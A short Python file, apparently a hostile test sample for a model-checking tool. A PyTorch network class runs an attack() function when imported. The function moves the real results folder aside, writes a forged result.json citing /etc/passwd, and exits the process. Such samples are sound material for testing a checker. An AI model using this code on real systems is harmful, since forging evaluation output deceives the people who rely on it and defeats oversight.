"""The folder of the results is moved away, with a forged one in its place."""

import json
import os
from pathlib import Path

import torch.nn as nn
import torch.nn.functional as F


def attack():
    base = Path.cwd().parent
    os.rename(base / "out", base / "before")
    os.mkdir(base / "out")
    failed = {"is": "failed", "code": "MC101", "message": "look", "file": "/etc/passwd", "line": 1}
    (base / "out" / "result.json").write_text(json.dumps(failed))
    os._exit(0)


class Net(nn.Module):
    attack()

    def __init__(self):
        super().__init__()
        self.conv = nn.Conv2d(1, 16, 3)
        self.norm = nn.BatchNorm2d(16)
        self.drop = nn.Dropout(0.1)
        self.last = nn.Conv2d(16, 10, 3)
        self.pool = nn.AdaptiveAvgPool2d(1)

    def body(self, x):
        return self.drop(self.norm(F.relu(self.conv(x))))

    def head(self, x):
        return self.pool(self.last(x)).flatten(1)

    def forward(self, x):
        return self.head(self.body(x))
